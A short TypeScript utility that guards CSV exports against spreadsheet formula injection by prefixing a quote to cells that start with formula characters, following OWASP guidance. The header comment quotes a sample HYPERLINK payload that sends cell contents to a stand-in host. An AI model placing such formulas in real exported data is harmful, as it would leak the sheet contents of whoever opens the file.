/**
 * Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and tab or CR) as a formula: a capture
 * named `=HYPERLINK("http://x/?"&A1,"open")` would put a live formula, able to send the sheet's contents
 * away, into whoever opens the CSV. OWASP's rule for CSV injection: start such a cell with a single
 * quote, which spreadsheets take as "this is text" and do not show.
 */

const FORMULA_START = /^[=+\-@\t\r]/;

/** The text with a leading `'` if a spreadsheet would take it for a formula; plain numbers stay as they are. */
export function formulaSafe(text: string): string {
  if (!FORMULA_START.test(text) || /^[+-]?(\d+(\.\d*)?|\.\d+)$/.test(text) || text === '-') return text;
  return `'${text}`;
}
